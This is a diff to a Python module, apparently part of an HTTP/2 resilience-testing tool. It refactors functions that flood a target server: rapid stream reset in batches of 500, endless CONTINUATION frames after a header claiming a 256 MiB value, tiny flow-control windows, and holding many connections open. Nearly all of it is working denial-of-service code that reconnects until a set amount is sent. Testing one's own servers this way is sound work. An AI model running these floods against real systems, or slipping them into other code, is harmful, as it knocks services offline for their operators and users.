@@ -3,13 +3,18 @@
 An attack goes on until its amount is done, connecting anew where the server closes on it, and gives
 back the connections that it still holds.
 """
-import struct
 import time
 
 import raw_http2 as h2
 
 # How long an attack tries to get on where the server does not let it.
 GIVE_UP_SECONDS = 60
+
+
+def connect(address):
+    """A connection to "HOST:PORT"."""
+    host, port = address.rsplit(":", 1)
+    return h2.Connection((host, int(port)), timeout=5)
 
 
 def flood(address, amount, chunks, reads=True):
@@ -19,15 +24,15 @@ def flood(address, amount, chunks, reads=True):
     held = []
     while amount > 0 and time.monotonic() < deadline:
         try:
-            connection = h2.connect(address)
+            connection = connect(address)
         except OSError:
             continue
         try:
             for data, done in chunks():
-                connection.sendall(data)
+                connection.send(data)
                 amount -= done
                 if reads:
-                    h2.throw_away(connection)
+                    connection.throw_away()
                 if amount <= 0 or time.monotonic() > deadline:
                     break
             held.append(connection)
@@ -48,8 +53,6 @@ def streams_without_acknowledgement(address, amount):
 
 def rapid_reset(address, amount):
     """Opens streams and takes them back at once."""
-    cancel = struct.pack(">I", 8)
-
     def chunks():
         yield h2.PREFACE + h2.settings() + h2.SETTINGS_ACK, 0
         numbers = h2.streams()
@@ -57,7 +60,7 @@ def rapid_reset(address, amount):
             batch = []
             for _ in range(500):
                 number = next(numbers)
-                batch += [h2.opening(number), h2.frame(h2.RST_STREAM, 0, number, cancel)]
+                batch += [h2.opening(number), h2.frame(h2.RST_STREAM, 0, number, h2.CANCEL)]
             yield b"".join(batch), 500
     return flood(address, amount, chunks)
 
@@ -76,11 +79,11 @@ def endless_headers(address, amount):
 
 def endless_value(address, amount):
     """One header whose value is said to be 256 MiB, and comes."""
-    begin = b"\0" + h2.text("x") + b"\x7f" + b"\x81\xff\xff\x7f"
+    begin = b"\0" + h2.text("x") + h2.length(256 << 20)
 
     def chunks():
         yield (h2.PREFACE + h2.settings() + h2.SETTINGS_ACK
-               + h2.frame(h2.HEADERS, 0, 1, h2.request_headers(h2.CHECK_ADMISSION) + begin)), 0
+               + h2.frame(h2.HEADERS, 0, 1, h2.call_headers(h2.CHECK_ADMISSION) + begin)), 0
         more = h2.frame(h2.CONTINUATION, 0, 1, b"y" * 16384)
         while True:
             yield more * 16, 16
@@ -114,7 +117,7 @@ def tiny_window(address, amount):
             for _ in range(50):
                 number = next(numbers)
                 batch += [h2.opening(number, h2.HEALTH_CHECK),
-                          h2.frame(h2.DATA, h2.END_STREAM, number, h2.EMPTY_MESSAGE)]
+                          h2.frame(h2.DATA, h2.END_STREAM, number, h2.message())]
             yield b"".join(batch), 50
     return flood(address, amount, chunks, reads=False)
 
@@ -124,8 +127,8 @@ def hold(address, amount, first_bytes):
     held = []
     for _ in range(amount):
         try:
-            connection = h2.connect(address)
-            connection.sendall(first_bytes)
+            connection = connect(address)
+            connection.send(first_bytes)
             held.append(connection)
         except OSError:
             continue
